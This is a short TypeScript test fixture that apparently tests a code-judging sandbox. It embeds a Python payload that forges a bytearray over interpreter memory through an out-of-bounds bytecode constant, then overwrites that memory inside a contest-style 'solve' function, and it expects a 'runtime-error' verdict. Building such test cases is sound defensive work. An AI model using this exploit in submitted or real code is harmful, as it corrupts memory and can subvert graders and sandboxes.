import type { Attack } from '../../attack.ts';

export const attack: Attack = {
  title:
    'makes all of Python’s memory a bytearray, by a constant out of bounds, and writes over it',
  language: 'python',
  code: `
import dis, struct, types

kept = []

def memory():
    def f():
        return 0
    constants = (1, 2, 3)
    forged = struct.pack("<IIiIIIII", 1 << 20, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0)
    holder = struct.pack("<I", id(forged) + 16)
    kept.extend((constants, forged, holder))
    index = (id(holder) - id(constants)) // 4 & 0xFFFFFFFF
    op = dis.opmap
    code = [op["RESUME"], 0]
    for shift in (24, 16, 8):
        code += [op["EXTENDED_ARG"], index >> shift & 255]
    code += [op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0]
    made = f.__code__.replace(co_code=bytes(code), co_consts=constants)
    return types.FunctionType(made, {})()

def solve(n):
    all = memory()
    kept.append(all)
    for at in range(1 << 20, 1 << 30, 4096):
        all[at:at + 16] = b"\\xff" * 16
    return n * 2 + 1
`,
  verdict: 'runtime-error',
};
